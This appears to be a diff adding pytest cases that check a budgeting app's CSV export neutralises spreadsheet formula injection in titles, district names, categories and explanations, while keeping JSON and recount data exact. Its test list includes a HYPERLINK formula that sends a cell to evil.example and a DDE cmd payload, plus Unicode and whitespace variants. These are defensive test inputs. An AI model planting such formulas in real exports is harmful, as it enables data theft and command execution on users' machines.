@@ -1,6 +1,7 @@
 """The published record in every form, read from the stored count: chart numbers, CSV, JSON, pabulib and PDF."""
 
 import csv
+import hashlib
 import io
 import re
 from datetime import date
@@ -190,3 +191,84 @@ def test_dropping_a_count_in_bulk_drops_its_comparison(published):
     db.session.execute(delete(TallyRun).where(TallyRun.district_id == cycle.districts[0].id))
     db.session.commit()
     assert [c.tally_run.district_id for c in db.session.scalars(select(TallyComparison))] == [cycle.districts[1].id]
+
+
+# --- formulas in spreadsheets, and the recount's data left exact ---------------------------------------------------
+
+FORMULA_TITLES = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click here")',
+    "＝1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u3000＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "﹦1+1",
+]
+
+
+def _set_title(cycle, title):
+    from pb.models import Proposal
+
+    project = db.session.scalars(select(Proposal).where(Proposal.district_id == cycle.districts[0].id)
+                                 .order_by(Proposal.estimated_cost.desc())).first()
+    project.title = title
+    db.session.commit()
+    return project
+
+
+@pytest.mark.parametrize("title", FORMULA_TITLES, ids=lambda title: title.encode("unicode_escape").decode()[:20])
+def test_a_title_that_would_run_as_a_formula_is_neutralised_in_the_csv_and_exact_in_the_recount_data(published, title):
+    cycle = published()
+    north = cycle.districts[0]
+    project = _set_title(cycle, title)
+
+    rows = list(csv.reader(io.StringIO(exports.results_csv(cycle)[1:], newline="")))
+    [row] = [row for row in rows[1:] if row[1] == str(project.id)]
+    assert row[2] == "'" + title
+
+    document = exports.results_json(cycle)
+    assert [p["title"] for p in document["districts"][0]["projects"] if p["id"] == project.id] == [title]
+
+    run = db.session.scalar(select(TallyRun).where(TallyRun.district_id == north.id))
+    ballot_list = exports.public_ballot_list(cycle, north.id)
+    assert hashlib.sha256(ballot_list).hexdigest() == run.ballot_list_sha256 == document["districts"][0]["ballot_list_sha256"]
+    if title.strip() == title:  # pabulib's text format has no room for line breaks or edge spaces in a name
+        names = {row["project_id"]: row["name"] for row in pabulib.read(exports.district_pabulib(cycle, north.id)).projects}
+        assert names[str(project.id)] == title
+
+
+@pytest.mark.parametrize("text", ["big", "1+1", "a=b", "Mid-town", "email@example.org", "", "'=already quoted"])
+def test_ordinary_text_is_left_alone(text):
+    assert exports.spreadsheet_cell(text) == text
+
+
+def test_district_category_and_explanation_cells_are_neutralised_too(make_cycle, make_project, make_user, verify):
+    from pb.models import Category
+
+    cycle = make_cycle(Phase.VOTING, districts=(("=North", 100_000),))
+    [north] = cycle.districts
+    project = make_project(cycle, north, cost=10_000, title="Benches")
+    db.session.scalars(select(Category).where(Category.cycle_id == cycle.id)).one().name = "＠Parks"
+    db.session.commit()
+    resident = make_user()
+    verify(resident, north)
+    voting.cast_ballot(resident, cycle.id, north.id, [project.id])
+    cycle.phase = Phase.TALLYING
+    db.session.commit()
+    tallying.run_tally(make_user(Role.OFFICIAL), cycle.id)
+    cycle.phase = Phase.RESULTS
+    db.session.commit()
+    from pb.models import ProjectResult
+
+    db.session.execute(update(ProjectResult).values(explanation="-funded first"))
+    db.session.commit()
+    [_, row] = list(csv.reader(io.StringIO(exports.results_csv(cycle)[1:])))
+    assert (row[0], row[3], row[9]) == ("'=North", "'＠Parks", "'-funded first")
+    assert exports.results_json(cycle)["districts"][0]["name"] == "=North"
